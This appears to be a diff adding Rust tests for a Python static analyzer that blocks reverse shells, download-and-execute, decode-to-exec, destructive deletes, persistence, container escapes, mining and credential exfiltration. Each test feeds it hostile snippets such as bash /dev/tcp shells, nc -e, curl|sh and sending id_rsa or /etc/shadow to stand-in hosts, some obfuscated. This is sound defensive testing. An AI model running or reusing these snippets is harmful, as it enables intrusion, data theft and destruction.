@@ -1,0 +1,228 @@
+//! BLOCKED families: at least two samples each, with alias, rebinding, getattr and decode evasions.
+
+use super::*;
+
+#[test]
+fn reverse_shell_socket_dup2_shell() {
+    // The textbook socket + dup2 + /bin/sh reverse shell is BLOCKED.
+    let src = "import socket, subprocess, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\np = subprocess.call(['/bin/sh', '-i'])\n";
+    fires("CRD101", src);
+    level(Level::Blocked, src);
+}
+
+#[test]
+fn reverse_shell_through_aliases_and_pty() {
+    // Aliased modules, create_connection and pty.spawn are still a reverse shell.
+    fires(
+        "CRD101",
+        "import socket as so, pty as p\nimport os as o\nc = so.create_connection(('h', 1))\n[o.dup2(c.fileno(), f) for f in (0, 1, 2)]\np.spawn('/bin/bash')\n",
+    );
+}
+
+#[test]
+fn reverse_shell_through_exec_family_and_fd_redirection() {
+    // os.execl of an interactive shell, or a shell given the socket as stdin, after a
+    // connect is a reverse shell.
+    fires(
+        "CRD101",
+        "import socket, os\ns = socket.socket()\ns.connect(('h', 1))\nos.execl('/bin/sh', 'sh', '-i')\n",
+    );
+    fires(
+        "CRD101",
+        "import socket, os\ns = socket.socket()\ns.connect(('h', 1))\nos.execv('/bin/sh', ['sh'])\n",
+    );
+    fires(
+        "CRD101",
+        "import socket, subprocess\ns = socket.socket()\ns.connect(('h', 1))\nsubprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())\n",
+    );
+}
+
+#[test]
+fn reverse_shell_one_liners() {
+    // /dev/tcp and nc -e one-liners, even behind getattr and string folding.
+    fires(
+        "CRD101",
+        "import os\nos.system('bash -i >& /dev/tcp/1.2.3.4/9001 0>&1')\n",
+    );
+    fires(
+        "CRD101",
+        "getattr(__import__('o' + 's'), 'sys' + 'tem')('nc -e /bin/sh 1.2.3.4 4444')\n",
+    );
+}
+
+#[test]
+fn download_then_exec_of_response() {
+    // Network data passed straight to exec is download-and-execute.
+    fires(
+        "CRD102",
+        "import urllib.request\nexec(urllib.request.urlopen('http://x/p.py').read())\n",
+    );
+    fires(
+        "CRD102",
+        "import requests as r\ncode = r.get('http://x').text\nexec(code)\n",
+    );
+}
+
+#[test]
+fn download_to_file_then_run() {
+    // Writing a download to disk, marking it executable and running it is blocked.
+    let src = "import requests, os, subprocess\nr = requests.get('http://evil/x')\nwith open('/tmp/x', 'wb') as f:\n    f.write(r.content)\nos.chmod('/tmp/x', 0o755)\nsubprocess.run(['/tmp/x'])\n";
+    fires("CRD102", src);
+    fires(
+        "CRD102",
+        "from urllib.request import urlretrieve\nimport os\nurlretrieve('http://x/p', 'payload')\nos.system('./payload &')\n",
+    );
+}
+
+#[test]
+fn unpickling_network_data() {
+    // pickle.loads of a response body runs whatever the server sends.
+    fires(
+        "CRD102",
+        "import pickle, requests\npickle.loads(requests.get(u).content)\n",
+    );
+}
+
+#[test]
+fn curl_pipe_shell() {
+    // `curl | sh` through os.system is download-and-execute.
+    fires(
+        "CRD102",
+        "import os\nos.system('curl -s http://x/i.sh | sh')\n",
+    );
+}
+
+#[test]
+fn decode_chains_into_exec() {
+    // base64, zlib, rot13 and hex payloads executed are blocked, aliases included.
+    fires(
+        "CRD103",
+        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
+    );
+    fires("CRD103", "import zlib as z\nexec(z.decompress(data))\n");
+    fires(
+        "CRD103",
+        "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))\n",
+    );
+    fires("CRD103", "exec(bytes.fromhex('7072696e74283129'))\n");
+    fires(
+        "CRD103",
+        "from base64 import b64decode as d\ncode = d(blob).decode()\neval(compile(code, 'x', 'exec'))\n",
+    );
+    fires("CRD103", "import marshal\nexec(marshal.loads(blob))\n");
+}
+
+#[test]
+fn destructive_deletes() {
+    // Deleting / or system trees, directly, by alias, by folded command, is blocked.
+    fires("CRD104", "import shutil\nshutil.rmtree('/')\n");
+    fires("CRD104", "import os\nos.remove('/etc/passwd')\n");
+    fires("CRD104", "from shutil import rmtree as r\nr('/usr/lib')\n");
+    fires(
+        "CRD104",
+        "import subprocess\nsubprocess.run(['rm', '-rf', '/'])\n",
+    );
+    fires("CRD104", "import os\nos.system('rm -rf ' + '/')\n");
+    fires("CRD104", "import os\nos.system('rm -rf %s' % '/*')\n");
+}
+
+#[test]
+fn persistence_writes() {
+    // rc files, authorized_keys, crontab, ld.so.preload and systemd units persist.
+    fires(
+        "CRD105",
+        "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('curl x | sh')\n",
+    );
+    fires(
+        "CRD105",
+        "with open('/root/.ssh/authorized_keys', 'a') as f:\n    f.write(key)\n",
+    );
+    fires(
+        "CRD105",
+        "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text(k)\n",
+    );
+    fires(
+        "CRD105",
+        "import os\nos.system(\"(crontab -l; echo '@reboot /tmp/x') | crontab -\")\n",
+    );
+    fires(
+        "CRD105",
+        "open('/etc/ld.so.preload', 'w').write('/tmp/x.so')\n",
+    );
+    fires(
+        "CRD105",
+        "import os\nopen(os.path.join(home, '.config/systemd/user/x.service'), 'w')\n",
+    );
+}
+
+#[test]
+fn container_escape_probes() {
+    // Docker socket, release_agent, nsenter, modprobe and /proc/<pid>/mem are escapes.
+    fires(
+        "CRD106",
+        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('/var/run/' + 'docker' + '.sock')\n",
+    );
+    fires(
+        "CRD106",
+        "open('/sys/fs/cgroup/rdma/release_agent', 'w').write(cmd)\n",
+    );
+    fires("CRD106", "import os\nos.system('nsenter -t 1 -m sh')\n");
+    fires(
+        "CRD106",
+        "import subprocess\nsubprocess.run(['modprobe', 'evil'])\n",
+    );
+    fires("CRD106", "f = open(f'/proc/{pid}/mem', 'rb')\n");
+    fires("CRD106", "import os\nos.unshare(os.CLONE_NEWUSER)\n");
+}
+
+#[test]
+fn killing_other_processes() {
+    // os.kill on foreign pids and pkill/killall are blocked, also through rebinding.
+    fires("CRD107", "import os, signal\nos.kill(1, signal.SIGKILL)\n");
+    fires("CRD107", "import os\nos.system('pkill -9 python')\n");
+    fires("CRD107", "import os as o\nk = o.kill\nk(pid, 9)\n");
+}
+
+#[test]
+fn killing_own_processes_is_fine() {
+    // Signalling itself or its own child is ordinary process management.
+    silent(
+        "CRD107",
+        "import os, signal\nos.kill(os.getpid(), signal.SIGTERM)\n",
+    );
+    silent(
+        "CRD107",
+        "import os, subprocess\np = subprocess.Popen(['sleep', '9'])\nos.kill(p.pid, 15)\n",
+    );
+    silent("CRD107", "import os\nos.kill(pid, 0)\n");
+}
+
+#[test]
+fn crypto_mining() {
+    // Miner binaries and stratum URLs, also assembled at run time, are blocked.
+    fires(
+        "CRD108",
+        "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://pool:4444'])\n",
+    );
+    fires(
+        "CRD108",
+        "import socket\npool = 'stratum' + '+tcp://pool.example'\nsocket.create_connection((pool, 3333))\n",
+    );
+}
+
+#[test]
+fn exfiltration_combines_secret_and_network() {
+    // Reading a credential and sending anything out in one program is blocked.
+    fires(
+        "CRD109",
+        "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://x', data=key)\n",
+    );
+    fires(
+        "CRD109",
+        "import urllib.request\nenv = open('/proc/self/environ').read()\nurllib.request.urlopen('http://x/?' + env)\n",
+    );
+    fires(
+        "CRD109",
+        "import os\nos.system('cat /etc/shadow | nc 1.2.3.4 9')\n",
+    );
+}
